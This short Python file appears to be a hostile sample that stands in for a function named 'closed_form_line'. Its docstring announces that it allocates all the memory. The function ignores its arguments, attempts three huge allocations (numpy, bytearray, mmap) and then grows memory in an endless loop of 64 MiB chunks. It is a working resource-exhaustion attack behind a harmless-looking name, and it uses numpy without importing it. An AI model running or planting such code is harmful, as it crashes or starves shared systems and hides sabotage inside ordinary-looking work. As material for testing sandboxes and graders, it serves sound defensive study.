"""Allocate all the memory, in one piece and in small ones.

Attacked: closed_form_line
"""

# %% closed_form_line

import mmap

def closed_form_line(x, y):
    held = []
    for take in (lambda: np.ones(1 << 34), lambda: bytearray(1 << 33), lambda: mmap.mmap(-1, 1 << 33)):
        try:
            held.append(take())
        except (MemoryError, OSError, ValueError):
            pass
    while True:
        held.append(bytearray(1 << 26))
